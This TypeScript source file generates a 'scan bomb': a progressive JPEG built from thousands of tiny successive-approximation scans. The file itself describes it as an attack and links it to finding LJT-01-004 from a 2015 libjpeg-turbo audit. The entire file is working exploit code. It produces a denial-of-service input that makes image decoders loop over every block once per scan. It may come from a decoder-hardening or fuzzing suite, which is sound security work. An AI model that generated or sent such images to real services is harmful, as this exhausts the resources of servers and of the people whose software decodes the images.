import { segment } from './jpeg-segment.ts';

const COMPONENTS = 3;
/** Bits of a coefficient that a scan may leave to later ones. */
const MOST_BITS = 13;
/** The longest run of blocks without anything that one code can stand for, in bits of its length. */
const LONGEST_RUN = 14;

/**
 * A progressive JPEG of 2,646 scans that are all in order: each bit of each coefficient has a scan of its own, and
 * says in a few bytes that nothing changes. Whoever decodes it goes through all blocks each time.
 * ITU-T T.81, annex G; the attack is LJT-01-004 of the audit of libjpeg-turbo, 2015.
 */
export function scanBomb(width: number, height: number): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const scans = [scan([1, 2, 3], { of: [0, 0] }, blocks * COMPONENTS)];
  const codes = Math.ceil(blocks / 2 ** LONGEST_RUN);
  for (let component = 1; component <= COMPONENTS; component += 1) {
    for (let coefficient = 1; coefficient < 64; coefficient += 1) {
      for (let bit = MOST_BITS; bit >= 0; bit -= 1) {
        const bits = { high: bit === MOST_BITS ? 0 : bit + 1, low: bit };
        const about = { of: [coefficient, coefficient], ...bits } as const;
        scans.push(scan([component], about, codes * (LONGEST_RUN + 1)));
      }
    }
  }
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc2, frame(width, height)),
    // One code each, of one bit, 0: no difference to the block before; a run of blocks to their end.
    segment(0xc4, table(0x00, 0)),
    segment(0xc4, table(0x10, LONGEST_RUN << 4)),
    ...scans,
    Buffer.from([0xff, 0xd9]),
  ]);
}

function frame(width: number, height: number): Buffer {
  const header = Buffer.from([8, 0, 0, 0, 0, COMPONENTS]);
  header.writeUInt16BE(height, 1);
  header.writeUInt16BE(width, 3);
  return Buffer.concat([header, Buffer.from([1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0])]);
}

function table(id: number, symbol: number): Buffer {
  return Buffer.concat([Buffer.from([id, 1]), Buffer.alloc(15), Buffer.from([symbol])]);
}

/** A header, and as many bits of 0; what is left of the last byte is filled with 1. */
function scan(
  components: readonly number[],
  { of, high = 0, low = 0 }: { of: readonly [number, number]; high?: number; low?: number },
  bits: number,
): Buffer {
  const selectors = components.flatMap((component) => [component, 0]);
  const header = [components.length, ...selectors, ...of, (high << 4) | low];
  const data = Buffer.alloc(Math.ceil(bits / 8));
  if (bits % 8 > 0) data[data.length - 1] = 0xff >> (bits % 8);
  return Buffer.concat([segment(0xda, Buffer.from(header)), data]);
}
